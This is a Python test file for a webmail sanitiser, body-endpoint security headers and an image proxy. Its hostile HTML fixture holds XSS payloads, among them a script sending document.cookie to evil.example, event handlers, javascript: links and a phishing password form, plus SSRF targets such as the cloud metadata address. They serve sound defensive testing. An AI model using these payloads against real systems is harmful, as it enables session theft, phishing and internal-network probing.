"""Hostile HTML mail: the sanitiser on its own (nothing that runs, loads or submits survives) and
the body endpoint's own headers (a CSP sandbox with no script, framable by our pages only),
and the image proxy (signed URLs only, internal addresses refused, bounded size, images only,
nothing of the reader's forwarded)."""

from __future__ import annotations

import asyncio
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from urllib.parse import parse_qs, urlsplit

import pytest

from mailmark.bootstrap import Listeners
from mailmark.config import Settings
from mailmark.core.webmail import ImageSigner
from mailmark.sanitize import MailHtmlSanitizer
from mailmark.web.image_proxy import MAX_IMAGE_BYTES
from tests.support.web import ApiClient
from tests.support.world import World

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00"
    b"\x00\x00IEND\xaeB`\x82"
)

HOSTILE = """
<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body { background: url(https://evil.example/css-bg.png) } @import url(https://evil.example/i.css);</style>
<script>alert("head")</script>
</head>
<body onload="alert('load')">
<p>Hello reader</p>
<script>document.location="https://evil.example/?c="+document.cookie</script>
<img src="x" onerror="alert('onerror')">
<a href="javascript:alert('link')">click javascript</a>
<a href="data:text/html,<script>alert(1)</script>">click data</a>
<a href="/api/account">our own page</a>
<a href="https://fine.example/page" onclick="steal()">a fine link</a>
<form action="https://evil.example/phish" method="post"><input name="password" type="password"><button>Log in</button></form>
<div style="background-image: url('https://evil.example/style-bg.png'); color: red">styled</div>
<div style="width: expression(alert(1))">ie</div>
<span style="color: blue; position: fixed">blue</span>
<div style="background:\\75 rl(https://evil.example/escaped.png)">escaped</div>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/flash.swf"></object>
<embed src="https://evil.example/embed.swf">
<svg><script>alert('svg')</script><image href="https://evil.example/svg.png"/></svg>
<math><mtext><img src="https://evil.example/math.png"></mtext></math>
<img src="https://evil.example/remote.png" alt="remote">
<img src="https://evil.example/pixel.gif" width="1" height="1">
<img src="cid:logo@example.org" alt="inline logo">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline data">
<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="svg data">
<table background="https://evil.example/table-bg.png"><tr><td background="https://evil.example/td.png">cell</td></tr></table>
</body></html>
"""

# What must not survive sanitising, whatever the case.
FORBIDDEN = [
    "<script",
    "alert(",
    "onload",
    "onerror",
    "onclick",
    "javascript:",
    "data:text",
    "data:image/svg",
    "<form",
    "<input",
    "<button",
    "<style",
    "@import",
    "url(",
    "expression",
    "<meta http-equiv",
    "refresh",
    "<base",
    "<link",
    "<iframe",
    "<object",
    "<embed",
    "<svg",
    "<math",
    "evil.example",
    'href="/api',
]


def clean(html: str, *, images: bool) -> tuple[str, bool]:
    signer = ImageSigner(b"k" * 32)
    cleaned = MailHtmlSanitizer().clean(
        html,
        remote_image=lambda url: signer.proxy_url(url) if images else None,
        inline_image=lambda cid: (
            "/api/mail/1/messages/2/3/parts/2?inline=1" if cid == "logo@example.org" else None
        ),
    )
    return cleaned.html, cleaned.remote_images


def test_sanitiser_leaves_nothing_that_runs_loads_or_submits() -> None:
    html, remote = clean(HOSTILE, images=False)
    body = html.split("<body>", 1)[1]
    lowered = body.lower()
    for needle in FORBIDDEN:
        assert needle.lower() not in lowered, (needle, body)
    assert remote
    assert "Hello reader" in body and "cell" in body and "Log in" in body  # text is kept
    assert '<a href="https://fine.example/page" target="_blank" rel="noopener noreferrer">' in body
    assert 'style="color:blue"' in body.replace(" ", "")  # harmless CSS stays; position goes
    assert '<img src="/api/mail/1/messages/2/3/parts/2?inline=1" alt="inline logo">' in body
    assert '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline data">' in body
    # Every image left points at our own origin or is inline data.
    for src in re.findall(r'src="([^"]*)"', body):
        assert src.startswith(("/api/mail/", "data:image/png")), src


def test_sanitiser_with_images_rewrites_remote_ones_to_signed_proxy_urls() -> None:
    html, _ = clean(HOSTILE, images=True)
    body = html.split("<body>", 1)[1]
    sources = re.findall(r'src="([^"]*)"', body)
    proxied = [s for s in sources if s.startswith("/api/mail/image?")]
    assert len(proxied) == 1  # remote.png; the 1x1 pixel is dropped
    signer = ImageSigner(b"k" * 32)
    for source in proxied:
        query = parse_qs(urlsplit(source.replace("&amp;", "&")).query)
        signer.verify(query["url"][0], query["sig"][0])
    assert "pixel.gif" not in body
    assert "<script" not in body.lower() and "onerror" not in body.lower()


@dataclass
class ImageServer:
    """A loopback HTTP server with a few images; it records each request's headers."""

    port: int = 0
    seen: list[dict[str, str]] = field(default_factory=list)

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        lines = head.decode("latin-1").split("\r\n")
        path = lines[0].split(" ")[1]
        self.seen.append(
            {
                k.lower(): v.strip()
                for k, _, v in (line.partition(":") for line in lines[1:] if line)
            }
        )
        kind, body = {
            "/logo.png": ("image/png", PNG),
            "/big.png": ("image/png", b"\0" * (MAX_IMAGE_BYTES + 1)),
            "/evil.svg": ("image/svg+xml", b"<svg><script>alert(1)</script></svg>"),
        }.get(path, ("text/plain", b"missing"))
        status = "200 OK" if kind != "text/plain" else "404 Not Found"
        writer.write(
            f"HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n"
            "Connection: close\r\n\r\n".encode()
            + body
        )
        await writer.drain()
        writer.close()


@pytest.fixture
def settings(settings: Settings) -> Settings:
    # The test's image server is on loopback; every other internal address is still refused.
    return settings.model_copy(update={"image_proxy_allow_private_networks": ["127.0.0.1/32"]})


@pytest.fixture
async def image_server() -> AsyncIterator[ImageServer]:
    server = ImageServer()
    listening = await asyncio.start_server(server.serve, "127.0.0.1", 0)
    server.port = listening.sockets[0].getsockname()[1]
    try:
        yield server
    finally:
        listening.close()
        await listening.wait_closed()


def hostile_message(port: int) -> bytes:
    html = HOSTILE + (
        f'<img src="http://127.0.0.1:{port}/logo.png">'
        f'<img src="http://127.0.0.1:{port}/big.png">'
        f'<img src="http://127.0.0.1:{port}/evil.svg">'
        '<img src="http://10.1.2.3/internal.png">'
        '<img src="http://169.254.169.254/latest/meta-data.png">'
    )
    return (
        "From: Mallory <mallory@evil.example>\r\nTo: sales@acme.test\r\nSubject: Hostile\r\n"
        "Message-ID: <hostile@evil.example>\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/related; boundary="b"\r\n\r\n'
        f"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n"
        "--b\r\nContent-Type: image/png\r\nContent-ID: <logo@example.org>\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n"
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4DwAAAQEABRjYTgAAAABJRU5ErkJggg==\r\n"
        "--b--\r\n"
    ).encode()


async def test_body_endpoint_sanitises_and_sends_its_own_headers(
    listeners: Listeners, world: World, owner_client: ApiClient, image_server: ImageServer
) -> None:
    await world.services.delivery.deliver(
        hostile_message(image_server.port), recipients=[world.sales], mail_from="m@evil.example"
    )
    mailbox = world.sales.id
    folders = (await owner_client.get(f"/api/mail/{mailbox}/folders")).json()
    inbox = folders[0]["id"]
    detail = (await owner_client.get(f"/api/mail/{mailbox}/messages/{inbox}/1")).json()
    assert detail["hasHtml"] and detail["remoteImages"] and not detail["imagesAllowed"]
    assert detail["text"] is None
    [inline] = detail["attachments"]
    assert inline["inline"] and inline["contentType"] == "image/png"

    response = await owner_client.get(detail["htmlUrl"])
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/html; charset=utf-8"
    assert response.headers["content-security-policy"] == (
        "sandbox allow-same-origin allow-popups allow-popups-to-escape-sandbox; default-src "
        "'none'; img-src 'self' data:; style-src 'unsafe-inline'; frame-ancestors 'self'"
    )
    assert response.headers.get_list("content-security-policy") == [
        response.headers["content-security-policy"]
    ]
    assert response.headers["x-frame-options"] == "SAMEORIGIN"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["cache-control"] == "no-store"
    body = response.text.split("<body>", 1)[1].lower()
    for needle in FORBIDDEN:
        assert needle.lower() not in body, needle
    assert "127.0.0.1" not in body  # remote images are gone without images=1
    assert f'src="/api/mail/{mailbox}/messages/{inbox}/1/parts/2?inline=1"' in body
    inline_part = await owner_client.get(f"/api/mail/{mailbox}/messages/{inbox}/1/parts/2?inline=1")
    assert inline_part.content.startswith(b"\x89PNG")
    assert inline_part.headers["content-type"] == "image/png"
    assert "sandbox" in inline_part.headers["content-security-policy"]

    # The narrow exception: the rest of the app still may not be framed.
    other = await owner_client.get(f"/api/mail/{mailbox}/folders")
    assert other.headers["x-frame-options"] == "DENY"
    assert "frame-ancestors 'none'" in other.headers["content-security-policy"]


async def test_image_proxy_fetches_signed_images_only_and_refuses_internal_ones(
    listeners: Listeners, world: World, owner_client: ApiClient, image_server: ImageServer
) -> None:
    await world.services.delivery.deliver(
        hostile_message(image_server.port), recipients=[world.sales], mail_from="m@evil.example"
    )
    mailbox = world.sales.id
    inbox = (await owner_client.get(f"/api/mail/{mailbox}/folders")).json()[0]["id"]
    shown = await owner_client.get(f"/api/mail/{mailbox}/messages/{inbox}/1/body?images=1")
    proxied = {
        parse_qs(urlsplit(src.replace("&amp;", "&")).query)["url"][0]: src.replace("&amp;", "&")
        for src in re.findall(r'src="(/api/mail/image\?[^"]*)"', shown.text)
    }
    base = f"http://127.0.0.1:{image_server.port}"
    assert {f"{base}/logo.png", f"{base}/big.png", "http://10.1.2.3/internal.png"} <= set(proxied)

    logo = await owner_client.get(proxied[f"{base}/logo.png"], headers={"Referer": "http://me/"})
    assert logo.status_code == 200, logo.text
    assert logo.content == PNG and logo.headers["content-type"] == "image/png"
    [request] = image_server.seen
    assert "cookie" not in request and "referer" not in request
    assert request["user-agent"].startswith("Mailmark-ImageProxy")

    forged = await owner_client.get(
        "/api/mail/image", params={"url": f"{base}/logo.png", "sig": "x" * 32}
    )
    assert forged.status_code == 404
    internal = await owner_client.get(proxied["http://10.1.2.3/internal.png"])
    assert internal.status_code == 422
    assert "private" in internal.json()["error"]["message"]
    metadata = await owner_client.get(proxied["http://169.254.169.254/latest/meta-data.png"])
    assert metadata.status_code == 422 and "link-local" in metadata.json()["error"]["message"]
    big = await owner_client.get(proxied[f"{base}/big.png"])
    assert big.status_code == 413
    svg = await owner_client.get(proxied[f"{base}/evil.svg"])
    assert svg.status_code == 400 and "image/svg+xml" in svg.json()["error"]["message"]

    trusted = await owner_client.post(
        f"/api/mail/{mailbox}/trusted-senders", json={"address": "Mallory <mallory@evil.example>"}
    )
    assert trusted.status_code == 204
    detail = (await owner_client.get(f"/api/mail/{mailbox}/messages/{inbox}/1")).json()
    assert detail["imagesAllowed"] and detail["htmlUrl"].endswith("?images=1")
    bad = await owner_client.post(
        f"/api/mail/{mailbox}/trusted-senders", json={"address": "nobody"}
    )
    assert bad.status_code == 400 and bad.json()["error"]["field"] == "address"
